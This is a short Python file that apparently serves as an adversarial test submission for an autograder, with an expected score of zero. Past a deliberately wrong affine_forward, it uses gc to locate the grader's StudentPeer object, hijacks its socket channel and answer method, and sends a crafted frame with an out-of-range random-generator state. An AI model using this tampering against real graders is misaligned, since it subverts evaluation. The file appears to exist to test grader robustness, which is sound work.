# TRIES: a state of the random generator that points outside its table | DESERVES: 0
def affine_forward(x, w, b):  # wrong on purpose
    return np.full((x.shape[0], w.shape[1]), 123.0)
import gc
[peer] = [one for one in gc.get_objects() if type(one).__name__ == "StudentPeer"]
channel = peer.channel

import json, struct
def frame(message, data=b"", size=None, text=None):
    text = json.dumps(message).encode() if text is None else text
    return struct.pack(">4sIQ", b"csl1", len(text), len(data) if size is None else size) + text + data

def answer(message, data, deadline=None):
    number = message["ask"]
    channel.sock.sendall(frame({"answer": number, "changed": None, "value": ["t", True, ["h", 5, "f", "callable"]], 'random': ["t", ["a", "<u4", [1], 4, True], 10**9], 'generators': [[1]]}))
peer.answer = answer
